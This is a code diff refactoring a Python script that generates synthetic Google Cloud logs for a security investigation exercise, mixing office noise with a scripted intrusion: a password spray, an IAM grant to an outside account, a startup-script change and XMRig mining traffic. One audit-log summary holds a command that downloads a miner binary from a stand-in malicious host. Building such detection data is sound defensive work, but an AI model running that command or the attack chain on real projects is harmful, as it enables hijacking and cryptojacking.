@@ -29,6 +29,8 @@ SEED = 20251108
 START = datetime(2025, 11, 5, tzinfo=UTC)
 END = datetime(2025, 11, 8, 6, 0, tzinfo=UTC)
 PROJECT = "production-project-12345"
+ZONE = f"projects/{PROJECT}/zones/us-central1-a"
+GOOGLE_APIS = "199.36.153.8"  # private.googleapis.com
 ATTACKER_IP = "185.220.101.42"
 POOL_IP = "195.123.245.89"
 CDN_IP = "198.51.100.77"
@@ -52,6 +54,13 @@ SA = {
 GCLOUD_UA = "google-cloud-sdk gcloud/449.0.0 command/gcloud.compute.instances.describe"
 BROWSER_UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"
 
+DNS_NOISE = [
+    ("storage.googleapis.com", "199.36.153.8"),
+    ("oauth2.googleapis.com", "199.36.153.9"),
+    ("metadata.google.internal", "169.254.169.254"),
+    ("deb.debian.org", "203.0.113.52"),
+    (f"db-prod-01.c.{PROJECT}.internal", "10.128.0.20"),
+]
 Row = dict[str, Any]
 STOPPED = (datetime(2025, 11, 8, 4, 50, tzinfo=UTC), datetime(2025, 11, 8, 5, 1, tzinfo=UTC))
 
@@ -162,145 +171,73 @@ def dns(t: datetime, instance: str, name: str, answer: str | None, rcode: str = 
     }
 
 
-def jitter(rng: random.Random, t: datetime, minutes: int) -> datetime:
+def jitter(rng: random.Random, t: datetime, minutes: int = 10) -> datetime:
     return t + timedelta(seconds=rng.randrange(minutes * 60))
+
+
+def ephemeral(rng: random.Random) -> int:
+    return rng.randrange(32768, 61000)
 
 
 def background(rng: random.Random) -> dict[str, list[Row]]:
     """A few quiet days of a small company's production project."""
     out: dict[str, list[Row]] = {name: [] for name in SCHEMAS}
-    web = ["web-server-prod-01", "web-server-prod-02"]
+    flows, audits, auths = out["vpc_flow_logs"], out["gcp_audit_logs"], out["auth_logs"]
+    db = INSTANCES["db-prod-01"]
     for t in windows(10):
-        for name in web:
+        for name in ("web-server-prod-01", "web-server-prod-02"):
             if name == "web-server-prod-01" and STOPPED[0] <= t < STOPPED[1]:
                 continue  # the attacker stopped the instance to add a startup script
             ip = INSTANCES[name]
-            hc = f"35.191.{rng.randrange(256)}.{rng.randrange(256)}"
-            out["vpc_flow_logs"].append(
-                flow(
-                    jitter(rng, t, 10),
-                    hc,
-                    ip,
-                    40000 + rng.randrange(20000),
-                    80,
-                    rng.randrange(400, 900),
-                )
-            )
-            lb = f"130.211.{rng.randrange(4)}.{rng.randrange(256)}"
-            out["vpc_flow_logs"].append(
-                flow(
-                    jitter(rng, t, 10),
-                    lb,
-                    ip,
-                    30000 + rng.randrange(30000),
-                    443,
-                    rng.randrange(20_000, 900_000),
-                )
-            )
-            out["vpc_flow_logs"].append(
-                flow(
-                    jitter(rng, t, 10),
-                    ip,
-                    INSTANCES["db-prod-01"],
-                    50000 + rng.randrange(10000),
-                    5432,
-                    rng.randrange(5_000, 200_000),
-                )
-            )
-            out["vpc_flow_logs"].append(
-                flow(
-                    jitter(rng, t, 10),
-                    ip,
-                    "199.36.153.8",
-                    50000 + rng.randrange(10000),
-                    443,
-                    rng.randrange(2_000, 60_000),
-                    country="US",
-                )
-            )
+            health_check = f"35.191.{rng.randrange(256)}.{rng.randrange(256)}"
+            load_balancer = f"130.211.{rng.randrange(4)}.{rng.randrange(256)}"
+            size = rng.randrange
+            flows += [
+                flow(jitter(rng, t), health_check, ip, ephemeral(rng), 80, size(400, 900)),
+                flow(jitter(rng, t), load_balancer, ip, ephemeral(rng), 443, size(20_000, 900_000)),
+                flow(jitter(rng, t), ip, db, ephemeral(rng), 5432, size(5_000, 200_000)),
+                flow(jitter(rng, t), ip, GOOGLE_APIS, ephemeral(rng), 443, size(2_000, 60_000),
+                     country="US"),
+            ]  # fmt: skip
             if rng.random() < 0.5:
-                out["gcp_audit_logs"].append(
-                    audit(
-                        jitter(rng, t, 10),
-                        SA["web"],
-                        ip,
-                        "gcloud-golang/0.111 storage",
-                        "storage.objects.get",
-                        f"projects/_/buckets/{PROJECT}-assets/objects/img/{rng.randrange(900)}.png",
-                        service="storage.googleapis.com",
-                        log_type="DATA_ACCESS",
-                    )
-                )
+                image = f"projects/_/buckets/{PROJECT}-assets/objects/img/{rng.randrange(900)}.png"
+                audits.append(audit(jitter(rng, t), SA["web"], ip, "gcloud-golang/0.111 storage",
+                                    "storage.objects.get", image, service="storage.googleapis.com",
+                                    log_type="DATA_ACCESS"))  # fmt: skip
         if rng.random() < 0.3:
-            out["vpc_flow_logs"].append(
-                flow(
-                    jitter(rng, t, 10),
-                    INSTANCES["batch-worker-01"],
-                    f"203.0.113.{rng.randrange(20, 40)}",
-                    50000 + rng.randrange(10000),
-                    443,
-                    rng.randrange(50_000, 5_000_000),
-                    country="US",
-                )
-            )
+            mirror = f"203.0.113.{rng.randrange(20, 40)}"
+            flows.append(flow(jitter(rng, t), INSTANCES["batch-worker-01"], mirror, ephemeral(rng),
+                              443, rng.randrange(50_000, 5_000_000), country="US"))  # fmt: skip
         if rng.random() < 0.25:  # internet noise against the bastion
-            scanner = f"192.0.2.{rng.randrange(1, 255)}"
-            when = jitter(rng, t, 10)
-            out["vpc_flow_logs"].append(
-                flow(
-                    when,
-                    scanner,
-                    INSTANCES["bastion-01"],
-                    rng.randrange(30000, 65000),
-                    22,
-                    320,
-                    country=rng.choice(["CN", "NL", "BR", "VN"]),
-                )
-            )
-            out["auth_logs"].append(
-                auth(
-                    when,
-                    "sshd",
-                    rng.choice(["root", "admin", "ubuntu"]),
-                    scanner,
-                    False,
-                    host="bastion-01",
-                    reason="invalid_user",
-                    method="password",
-                    country="ZZ",
-                )
-            )
+            scanner, when = f"192.0.2.{rng.randrange(1, 255)}", jitter(rng, t)
+            country = rng.choice(["CN", "NL", "BR", "VN"])
+            flows.append(flow(when, scanner, INSTANCES["bastion-01"], ephemeral(rng), 22, 320,
+                              country=country))  # fmt: skip
+            auths.append(auth(when, "sshd", rng.choice(["root", "admin", "ubuntu"]), scanner,
+                              False, host="bastion-01", reason="invalid_user", method="password",
+                              country=country))  # fmt: skip
     for t in windows(15):
         for name in INSTANCES:
-            host, answer = rng.choice(
-                [
-                    ("storage.googleapis.com", "199.36.153.8"),
-                    ("oauth2.googleapis.com", "199.36.153.9"),
-                    ("metadata.google.internal", "169.254.169.254"),
-                    ("deb.debian.org", "203.0.113.52"),
-                    (f"db-prod-01.c.{PROJECT}.internal", INSTANCES["db-prod-01"]),
-                ]
-            )
+            host, answer = rng.choice(DNS_NOISE)
             out["dns_logs"].append(dns(jitter(rng, t, 15), name, host, answer))
-    add_workday(rng, out)
+    add_workdays(rng, out)
     return out
 
 
-def add_workday(rng: random.Random, out: dict[str, list[Row]]) -> None:
-    """Employees sign in, use the console and gcloud, and SSH through IAP."""
+def add_workdays(rng: random.Random, out: dict[str, list[Row]]) -> None:
+    """Employees sign in, use the console and gcloud, and SSH through IAP; CI deploys."""
     day = START
     while day < END:
-        for user in USERS:
+        for number, user in enumerate(USERS):
             if day.weekday() >= 5 and rng.random() < 0.8:
                 continue
             email = f"{user}@example.com"
-            home = f"203.0.113.{USERS.index(user) + 100}"
-            ip = OFFICE_IP if rng.random() < 0.6 else home
+            ip = OFFICE_IP if rng.random() < 0.6 else f"203.0.113.{number + 100}"
             for _ in range(rng.randrange(1, 4)):
                 t = day + timedelta(hours=13 + rng.random() * 10)  # 08:00-18:00 US Eastern
                 if t >= END:
                     continue
-                if rng.random() < 0.08:
+                if rng.random() < 0.08:  # a mistyped password first
                     out["auth_logs"].append(
                         auth(t - timedelta(seconds=20), "sso", email, ip, False)
                     )
@@ -328,7 +265,7 @@ def add_workday(rng: random.Random, out: dict[str, list[Row]]) -> None:
                             when,
                             iap,
                             INSTANCES[host],
-                            40000,
+                            ephemeral(rng),
                             22,
                             rng.randrange(8_000, 90_000),
                             secs=600,
@@ -337,198 +274,89 @@ def add_workday(rng: random.Random, out: dict[str, list[Row]]) -> None:
         for hour in (2, 14):  # CI deploys and terraform plans
             t = day + timedelta(hours=hour, minutes=rng.randrange(60))
             if t < END:
-                out["gcp_audit_logs"].append(
-                    audit(
-                        t,
-                        SA["ci"],
-                        "10.128.0.30",
-                        "google-cloud-sdk gcloud/449.0.0",
-                        "v1.compute.instanceGroupManagers.patch",
-                        f"projects/{PROJECT}/zones/us-central1-a/instanceGroupManagers/web-mig",
-                    )
-                )
-                out["gcp_audit_logs"].append(
-                    audit(
-                        t + timedelta(minutes=3),
-                        SA["tf"],
-                        "10.128.0.30",
-                        "Terraform/1.9.5",
-                        "v1.compute.firewalls.get",
-                        f"projects/{PROJECT}/global/firewalls/allow-lb-health-checks",
-                    )
-                )
+                out["gcp_audit_logs"] += [
+                    audit(t, SA["ci"], "10.128.0.30", "google-cloud-sdk gcloud/449.0.0",
+                          "v1.compute.instanceGroupManagers.patch",
+                          f"{ZONE}/instanceGroupManagers/web-mig"),
+                    audit(t + timedelta(minutes=3), SA["tf"], "10.128.0.30", "Terraform/1.9.5",
+                          "v1.compute.firewalls.get",
+                          f"projects/{PROJECT}/global/firewalls/allow-lb-health-checks"),
+                ]  # fmt: skip
         day += timedelta(days=1)
     # A benign IAM change by an admin, for contrast with the malicious one.
-    out["gcp_audit_logs"].append(
-        audit(
-            at("11-06 15:12:09"),
-            "alice.nguyen@example.com",
-            OFFICE_IP,
-            BROWSER_UA,
-            "SetIamPolicy",
-            f"projects/{PROJECT}",
-            service="cloudresourcemanager.googleapis.com",
-            summary="add binding roles/viewer member user:kim.park@example.com (ticket OPS-1182)",
-        )
-    )
+    out["gcp_audit_logs"].append(audit(
+        at("11-06 15:12:09"), "alice.nguyen@example.com", OFFICE_IP, BROWSER_UA, "SetIamPolicy",
+        f"projects/{PROJECT}", service="cloudresourcemanager.googleapis.com",
+        summary="add binding roles/viewer member user:kim.park@example.com (ticket OPS-1182)",
+    ))  # fmt: skip
 
 
 def employee_call(rng: random.Random, t: datetime, email: str, ip: str) -> Row:
-    t = t + timedelta(minutes=rng.randrange(1, 120))
-    method, resource, service = rng.choice(
-        [
-            (
-                "v1.compute.instances.get",
-                f"projects/{PROJECT}/zones/us-central1-a/instances/"
-                f"web-server-prod-0{rng.randrange(1, 3)}",
-                "compute.googleapis.com",
-            ),
-            (
-                "v1.compute.instances.list",
-                f"projects/{PROJECT}/zones/us-central1-a",
-                "compute.googleapis.com",
-            ),
-            (
-                "storage.objects.list",
-                f"projects/_/buckets/{PROJECT}-assets",
-                "storage.googleapis.com",
-            ),
-            (
-                "jobservice.insert",
-                f"projects/{PROJECT}/jobs/job_{rng.randrange(10**6)}",
-                "bigquery.googleapis.com",
-            ),
-        ]
-    )
+    """One console or gcloud call by an employee, sometimes denied."""
+    job = f"projects/{PROJECT}/jobs/job_{rng.randrange(10**6)}"
+    method, resource, service = rng.choice([
+        ("v1.compute.instances.get", f"{ZONE}/instances/web-server-prod-02", "compute"),
+        ("v1.compute.instances.list", ZONE, "compute"),
+        ("storage.objects.list", f"projects/_/buckets/{PROJECT}-assets", "storage"),
+        ("jobservice.insert", job, "bigquery"),
+    ])  # fmt: skip
     denied = email.startswith("bob.") and rng.random() < 0.3
-    ua = BROWSER_UA if rng.random() < 0.5 else GCLOUD_UA
     return audit(
-        t,
+        t + timedelta(minutes=rng.randrange(1, 120)),
         email,
         ip,
-        ua,
+        BROWSER_UA if rng.random() < 0.5 else GCLOUD_UA,
         method,
         resource,
-        service=service,
+        service=f"{service}.googleapis.com",
         log_type="DATA_ACCESS" if "list" in method or "get" in method else "ADMIN_ACTIVITY",
         code=7 if denied else 0,
         message="PERMISSION_DENIED" if denied else None,
     )
 
 
+# The attack, as (time, principal, user agent, method, resource, extra fields).
+VM = f"{ZONE}/instances/web-server-prod-01"
+JDOE, ATTACKER, CURL = "j.doe@example.com", "attacker@external-domain.com", "curl/7.68.0"
+READ = {"log_type": "DATA_ACCESS"}
+STORY_AUDIT: list[tuple[str, str, str, str, str, dict[str, Any]]] = [
+    ("11-07 22:19:40", JDOE, GCLOUD_UA, "SetIamPolicy", f"projects/{PROJECT}",
+     {"service": "cloudresourcemanager.googleapis.com",
+      "summary": f"add binding roles/compute.admin member user:{ATTACKER}"}),
+    ("11-07 22:21:05", JDOE, GCLOUD_UA, "v1.compute.instances.list", ZONE, READ),
+    ("11-08 04:51:02", ATTACKER, CURL, "v1.compute.instances.list", ZONE, READ),
+    ("11-08 04:53:30", ATTACKER, CURL, "v1.compute.instances.stop", VM, {}),
+    ("11-08 04:57:12", ATTACKER, CURL, "v1.compute.instances.setMetadata", VM,
+     {"summary": "metadata keys changed: ssh-keys (added key for user 'attacker'), startup-script "
+                 "(added: wget http://malicious-cdn.com/xmrig -O /tmp/.xmrig/xmrig)"}),
+    ("11-08 05:01:05", ATTACKER, CURL, "v1.compute.instances.start", VM, {}),
+    ("11-08 05:19:55", ATTACKER, CURL, "google.iam.admin.v1.CreateServiceAccountKey",
+     f"projects/{PROJECT}/serviceAccounts/{SA['web']}", {"service": "iam.googleapis.com"}),
+    ("11-08 05:21:10", ATTACKER, CURL, "v1.compute.instances.insert",
+     f"projects/{PROJECT}/zones/us-east1-b/instances/gpu-worker-7",
+     {"code": 8, "message": "RESOURCE_EXHAUSTED: Quota 'NVIDIA_T4_GPUS' exceeded. Limit: 0.0"}),
+]  # fmt: skip
+
+
 def story(rng: random.Random) -> dict[str, list[Row]]:
     """Password spray -> IAM grant -> startup-script -> SSH -> XMRig mining (the SCC alert)."""
     out: dict[str, list[Row]] = {name: [] for name in SCHEMAS}
-    spray_ua = "python-requests/2.31.0"
+    spray = {"method": "password", "mfa": False, "ua": "python-requests/2.31.0", "country": "RO"}
     t = at("11-07 21:38:02")
     for i in range(64):
         user = f"{USERS[i % len(USERS)]}@example.com"
-        if user != "j.doe@example.com" or i < 60:
-            out["auth_logs"].append(
-                auth(
-                    t,
-                    "sso",
-                    user,
-                    ATTACKER_IP,
-                    False,
-                    method="password",
-                    mfa=False,
-                    ua=spray_ua,
-                    country="RO",
-                )
-            )
+        if user != JDOE or i < 60:
+            out["auth_logs"].append(auth(t, "sso", user, ATTACKER_IP, False, **spray))
         t += timedelta(seconds=rng.randrange(15, 35))
-    ok = at("11-07 22:06:13")
-    out["auth_logs"].append(
-        auth(
-            ok,
-            "sso",
-            "j.doe@example.com",
-            ATTACKER_IP,
-            True,
-            method="password (legacy app password, MFA not enforced)",
-            mfa=False,
-            ua=spray_ua,
-            country="RO",
-        )
-    )
-    comp = f"projects/{PROJECT}/zones/us-central1-a/instances/web-server-prod-01"
-    rows = [
-        audit(
-            at("11-07 22:19:40"),
-            "j.doe@example.com",
-            ATTACKER_IP,
-            GCLOUD_UA,
-            "SetIamPolicy",
-            f"projects/{PROJECT}",
-            service="cloudresourcemanager.googleapis.com",
-            summary="add binding roles/compute.admin member user:attacker@external-domain.com",
-        ),
-        audit(
-            at("11-07 22:21:05"),
-            "j.doe@example.com",
-            ATTACKER_IP,
-            GCLOUD_UA,
-            "v1.compute.instances.list",
-            f"projects/{PROJECT}/zones/us-central1-a",
-            log_type="DATA_ACCESS",
-        ),
-        audit(
-            at("11-08 04:51:02"),
-            "attacker@external-domain.com",
-            ATTACKER_IP,
-            "curl/7.68.0",
-            "v1.compute.instances.list",
-            f"projects/{PROJECT}/zones/us-central1-a",
-            log_type="DATA_ACCESS",
-        ),
-        audit(
-            at("11-08 04:53:30"),
-            "attacker@external-domain.com",
-            ATTACKER_IP,
-            "curl/7.68.0",
-            "v1.compute.instances.stop",
-            comp,
-        ),
-        audit(
-            at("11-08 04:57:12"),
-            "attacker@external-domain.com",
-            ATTACKER_IP,
-            "curl/7.68.0",
-            "v1.compute.instances.setMetadata",
-            comp,
-            summary="metadata keys changed: ssh-keys (added key for user 'attacker'), "
-            "startup-script (added: wget http://malicious-cdn.com/xmrig -O /tmp/.xmrig/xmrig)",
-        ),
-        audit(
-            at("11-08 05:01:05"),
-            "attacker@external-domain.com",
-            ATTACKER_IP,
-            "curl/7.68.0",
-            "v1.compute.instances.start",
-            comp,
-        ),
-        audit(
-            at("11-08 05:19:55"),
-            "attacker@external-domain.com",
-            ATTACKER_IP,
-            "curl/7.68.0",
-            "google.iam.admin.v1.CreateServiceAccountKey",
-            f"projects/{PROJECT}/serviceAccounts/{SA['web']}",
-            service="iam.googleapis.com",
-        ),
-        audit(
-            at("11-08 05:21:10"),
-            "attacker@external-domain.com",
-            ATTACKER_IP,
-            "curl/7.68.0",
-            "v1.compute.instances.insert",
-            f"projects/{PROJECT}/zones/us-east1-b/instances/gpu-worker-7",
-            code=8,
-            message="RESOURCE_EXHAUSTED: Quota 'NVIDIA_T4_GPUS' exceeded. Limit: 0.0",
-        ),
+    spray["method"] = "password (legacy app password, MFA not enforced)"
+    out["auth_logs"].append(auth(at("11-07 22:06:13"), "sso", JDOE, ATTACKER_IP, True, **spray))
+    out["auth_logs"].append(auth(at("11-08 05:14:21"), "sshd", "attacker", ATTACKER_IP, True,
+                                 host="web-server-prod-01", method="publickey", mfa=False,
+                                 country="RO"))  # fmt: skip
+    out["gcp_audit_logs"] = [
+        audit(at(when), who, ATTACKER_IP, ua, method, resource, **dict(extra))
+        for when, who, ua, method, resource, extra in STORY_AUDIT
     ]
-    out["gcp_audit_logs"] = rows
     web = INSTANCES["web-server-prod-01"]
     out["dns_logs"] += [
         dns(at("11-08 05:01:58"), "web-server-prod-01", "malicious-cdn.com", CDN_IP),
@@ -540,34 +368,12 @@ def story(rng: random.Random) -> dict[str, list[Row]]:
         flow(at("11-08 05:14:18"), ATTACKER_IP, web, 51812, 22, 48_211, secs=600, country="RO"),
     ]
     t = at("11-08 05:15:40")
-    while t < END:
+    while t < END:  # the miner keeps one connection to each pool open
         for ip, port in ((POOL_IP, 4444), (ATTACKER_IP, 3333)):
-            out["vpc_flow_logs"].append(
-                flow(
-                    t,
-                    web,
-                    ip,
-                    38000 + (port % 100),
-                    port,
-                    rng.randrange(180_000, 260_000),
-                    secs=60,
-                    country="RO",
-                )
-            )
+            nbytes = rng.randrange(180_000, 260_000)
+            out["vpc_flow_logs"].append(flow(t, web, ip, 38000 + port % 100, port, nbytes,
+                                             secs=60, country="RO"))  # fmt: skip
         t += timedelta(minutes=1)
-    out["auth_logs"].append(
-        auth(
-            at("11-08 05:14:21"),
-            "sshd",
-            "attacker",
-            ATTACKER_IP,
-            True,
-            host="web-server-prod-01",
-            method="publickey",
-            mfa=False,
-            country="RO",
-        )
-    )
     return out
 
 
